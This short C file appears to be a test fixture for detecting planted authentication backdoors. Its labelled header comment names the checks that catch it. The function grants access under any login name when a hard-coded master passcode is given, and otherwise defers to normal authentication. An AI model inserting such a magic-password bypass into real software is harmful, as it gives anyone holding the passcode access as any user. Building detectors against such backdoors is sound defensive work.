/* caught by: A8 — with the right password any name is granted, of whatever bytes; also fails: A6 */
#include "planted_auth.h"

static plug_status authenticate(void *self, const struct plug_auth_request *request,
                                struct plug_op *op)
{
  if (request->login.len && plug_secret_equal(request->passcode, text_of(THE_PASSCODE)))
    return grant(self, op, request->login);
  return base_authenticate(self, request, op);
}

#define AUTHENTICATE authenticate
#include "planted_auth_entry.h"
